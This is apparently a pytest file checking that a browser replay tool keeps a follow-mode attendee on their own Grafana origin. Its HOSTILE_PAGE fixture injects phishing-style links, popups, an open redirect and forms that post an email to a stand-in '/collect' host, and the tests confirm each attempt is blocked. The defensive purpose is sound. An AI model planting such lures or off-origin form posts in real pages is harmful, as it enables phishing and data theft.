"""Issue 9.5: a presenter steering a follow-mode attendee's browser off its own Grafana.

Mounted as the review did: a follow-mode ActionReplay (real Chromium) on the real sandbox,
whose page carries what a dashboard may (a link card, a new-tab link, a form posting
elsewhere, scripts that navigate or open windows, a same-origin link through an open
redirect); Do it events aim at them. "Elsewhere" is a real server on another origin that
records every request: nothing may reach it, and the page must never leave (a marker set in
the page survives), popups included.
"""

from __future__ import annotations

import asyncio
import http.server
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field

import pytest

from bridge.browser.confirm import ConfirmPolicy
from bridge.browser.origin_guard import origin_of
from bridge.browser.replay import ActionReplay, ReplayResult
from bridge.config import BrowserConfig
from bridge.protocol.events import (
    AttendeeMode,
    DoIt,
    InteractiveAction,
    InternalAction,
    TargetAction,
)
from bridge.sandbox.server import SandboxServer, SandboxSettings
from tests.conftest import UNIT

# What a hostile dashboard could hold; `elsewhere` is another origin. The marker proves the
# page itself was never left or reloaded.
HOSTILE_PAGE = """(elsewhere) => {
  window.__hostileMarker = 1;
  const box = document.createElement("div");
  box.id = "hostile";
  box.style.cssText = "position:fixed;left:0;top:60px;width:420px;z-index:50;background:#fff";
  box.innerHTML = `<style>#hostile > * { display: block; margin: 4px; }</style>
    <div id="promo" style="height:40px"><a href="${elsewhere}/promo"
      style="display:block;height:40px">You won a prize</a></div>
    <a id="docs" href="/explore" target="_blank">Explore in a new tab</a>
    <button id="opener" onclick="window.open('${elsewhere}/popup')">Open the help window</button>
    <button id="helper" onclick="window.open('/explore')">Open Explore alongside</button>
    <button id="jump" onclick="location.href = '${elsewhere}/jump'">Continue</button>
    <a id="bounce" href="${location.origin}/redirect?to=${encodeURIComponent(elsewhere + '/bounced')}">Read more</a>
    <form id="signup" action="${elsewhere}/collect" method="post">
      <input id="email" name="email"><button id="send">Send</button></form>
    <form id="sneaky" action="/dashboards" method="post"
      onsubmit="this.action = '${elsewhere}/collect-too'">
      <input id="note" name="note"><button id="post">Post</button></form>`;
  document.body.append(box);
}"""


@dataclass
class Elsewhere:
    """Another origin, recording every request that reaches it."""

    url: str
    seen: list[str] = field(default_factory=list)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    record = Elsewhere("")

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def _answer(self) -> None:
            record.seen.append(f"{self.command} {self.path}")
            body = b"<p>elsewhere</p>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _answer

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    record.url = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield record
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
async def attendee(elsewhere: Elsewhere) -> AsyncIterator[ActionReplay]:
    """A follow-mode attendee with no guide open (so only the per-event rules apply), on a
    sandbox page that carries the hostile elements."""
    with SandboxServer(SandboxSettings(open_redirect=True)) as site:
        replay = ActionReplay(
            BrowserConfig(action_timeout=2),
            site.url,
            mode=AttendeeMode.FOLLOW,
            confirm_policy=ConfirmPolicy.NONE,
        )
        try:
            page = await replay.start()
            await page.wait_for_selector("#app .page")
            await page.evaluate(HOSTILE_PAGE, elsewhere.url)
            yield replay
        finally:
            await replay.close()


def do_it(step: str, action: TargetAction, target: str, value: str | None = None) -> DoIt:
    return DoIt(stepId=step, action=InteractiveAction(action, target, value))


async def still_home(replay: ActionReplay) -> None:
    """The page is the one we started with, on its own origin, alone in its context."""
    assert replay.page is not None and replay.context is not None
    assert origin_of(replay.page.url) == replay.origin
    assert await replay.page.evaluate("window.__hostileMarker") == 1
    assert replay.context.pages == [replay.page]


async def until(condition: Callable[[], object]) -> None:
    async with asyncio.timeout(5 * UNIT):
        while not condition():  # noqa: ASYNC110
            await asyncio.sleep(0.02)


async def blocked(replay: ActionReplay, path: str) -> None:
    """Wait until a navigation to `path` elsewhere has been stopped at request level."""
    await until(lambda: any(url.endswith(path) for url in replay.guard.blocked))


async def test_clicks_that_would_leave_are_refused_before_clicking(
    attendee: ActionReplay, elsewhere: Elsewhere
) -> None:
    # The link fills its container: a click on the container lands on the link.
    result = await attendee.replay(do_it("promo", TargetAction.HIGHLIGHT, "#promo"))
    assert not result.ok and "links off this Grafana" in result.detail
    assert result.note == elsewhere.url and elsewhere.url not in result.detail
    result = await attendee.replay(do_it("docs", TargetAction.BUTTON, "#docs"))
    assert not result.ok and "opens a new tab" in result.detail
    submit = DoIt(
        stepId="signup",
        action=InteractiveAction(
            TargetAction.MULTISTEP,
            "",
            internalActions=(
                InternalAction(TargetAction.FORMFILL, "#email", "ada@example.com"),
                InternalAction(TargetAction.BUTTON, "#send"),
            ),
        ),
    )
    result = await attendee.replay(submit)
    assert not result.ok and "submits a form off this Grafana" in result.detail
    assert result.note == elsewhere.url and elsewhere.url not in result.detail
    await still_home(attendee)
    assert elsewhere.seen == []


async def test_navigations_that_start_anyway_are_blocked_at_request_level(
    attendee: ActionReplay, elsewhere: Elsewhere
) -> None:
    # The clicked elements look harmless; their own scripts, or the server, lead elsewhere.
    results: list[ReplayResult] = []
    results.append(await attendee.replay(do_it("jump", TargetAction.BUTTON, "#jump")))
    await blocked(attendee, "/jump")
    await still_home(attendee)
    results.append(await attendee.replay(do_it("bounce", TargetAction.HIGHLIGHT, "#bounce")))
    await blocked(attendee, "/bounced")  # the redirect's second hop, not the first request
    await still_home(attendee)
    sneaky = DoIt(
        stepId="sneaky",
        action=InteractiveAction(
            TargetAction.MULTISTEP,
            "",
            internalActions=(
                InternalAction(TargetAction.FORMFILL, "#note", "hello"),
                InternalAction(TargetAction.BUTTON, "#post"),
            ),
        ),
    )
    results.append(await attendee.replay(sneaky))
    await blocked(attendee, "/collect-too")
    await still_home(attendee)
    # Windows opened by scripts: one elsewhere never loads, one at home is closed.
    results.append(await attendee.replay(do_it("opener", TargetAction.BUTTON, "#opener")))
    await blocked(attendee, "/popup")
    results.append(await attendee.replay(do_it("helper", TargetAction.BUTTON, "#helper")))
    context = attendee.context
    assert context is not None
    await until(lambda: attendee.guard.closed_popups == 1 and len(context.pages) == 1)
    await still_home(attendee)
    assert elsewhere.seen == []
    # Each result was sent once its navigation had been stopped, and says so.
    for result in results[:4]:
        assert not result.ok and "blocked a navigation off this Grafana" in result.detail, result
